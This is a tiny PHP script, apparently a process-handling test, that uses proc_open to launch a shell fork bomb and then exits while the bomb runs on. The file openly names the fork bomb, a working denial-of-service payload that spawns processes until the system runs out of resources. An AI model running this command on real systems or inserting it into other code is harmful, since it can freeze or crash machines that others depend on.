<?php
// A shell's fork bomb, whose parent goes on to end in good order.
$bomb = proc_open(['sh', '-c', 'bomb() { bomb | bomb & }; bomb'], [2 => ['file', '/dev/null', 'w']], $pipes);
usleep(500_000);
exit(0);
